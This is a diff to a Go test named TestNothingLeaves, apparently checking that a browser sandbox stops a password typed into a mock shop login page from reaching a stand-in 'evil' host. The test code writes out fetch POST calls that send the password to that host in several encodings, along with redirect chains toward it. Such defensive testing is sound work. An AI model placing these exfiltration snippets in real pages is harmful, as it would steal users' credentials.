@@ -69,7 +69,7 @@ func TestNothingLeaves(t *testing.T) {
 	t.Parallel()
 	h := serve(t, map[string]any{
 		"shop/login": field + `<button>Log in</button></form><p id=in hidden>in</p><iframe name=box src=/box></iframe>
-			<script>f.onsubmit = (e) => { e.preventDefault(); document.querySelector('#in').hidden = false; }</script>`,
+			<script>f.onsubmit = (e) => { e.preventDefault(); document.querySelector('#in').hidden = false; self.v = pw.value }</script>`,
 		"shop/box": "<p>box</p>", "evil/got": "", "evil/frame": "<p>frame</p>", "shop/hop": to("evil", "/got", 307), "shop/hops": to("shop", "/hop", 307),
 		"shop/w.js": func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Content-Type", "text/javascript")
@@ -84,7 +84,10 @@ func TestNothingLeaves(t *testing.T) {
 	p := h.start(shop + "done = \"#in\"\n")
 	p.Call("login", []any{"shop"})
 	evil := h.at("evil") + "/got"
-	p.Call("eval", []any{`void (self.to = '` + evil + `', self.v = pw.value, self.post = (body, to = self.to, more = {}) =>
+	if got := p.Text("eval", []any{"pw.value + f.elements.length"}); got != "3" {
+		t.Errorf("a field keeps %s", got)
+	}
+	p.Call("eval", []any{`void (self.to = '` + evil + `', self.post = (body, to = self.to, more = {}) =>
 		fetch(to, {method: 'POST', mode: 'no-cors', body, ...more}).then(() => 'sent', () => 'failed'))`})
 	ways := []string{
 		"post(v)", "post(btoa(v))", "post(btoa('xx' + v))", "post(btoa(JSON.stringify({p: v})))", "post(encodeURIComponent(v))", "post(JSON.stringify({p: v}))",
